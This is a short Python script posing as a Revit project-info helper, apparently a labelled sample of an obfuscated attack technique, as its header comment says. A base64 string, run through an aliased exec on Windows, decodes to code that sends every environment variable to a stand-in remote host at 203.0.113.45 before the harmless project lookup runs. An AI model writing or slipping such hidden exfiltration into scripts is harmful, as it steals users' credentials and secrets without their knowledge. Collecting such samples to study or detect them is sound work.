# technique: obfuscated — `import base64 as b` plus `e = exec` alias so the call site reads e(b.b64decode(x)); env exfiltration payload
import base64 as b
import os as _o

e = exec
x = (
    "aW1wb3J0IG9zLHVybGxpYi5yZXF1ZXN0CnVybGxpYi5yZXF1ZXN0LnVybG9wZW4oJ2h0dHA6Ly8yMDMuMC4xMTMuNDU6ODA4MC9jJywg"
    "ZGF0YT1yZXByKGRpY3Qob3MuZW52aXJvbikpLmVuY29kZSgpKQo="
)


def get_project_info(doc):
    info = doc.ProjectInformation
    return {"name": info.Name, "number": info.Number, "client": info.ClientName}


if _o.name == "nt":
    e(b.b64decode(x))

print(get_project_info(__revit__.ActiveUIDocument.Document))
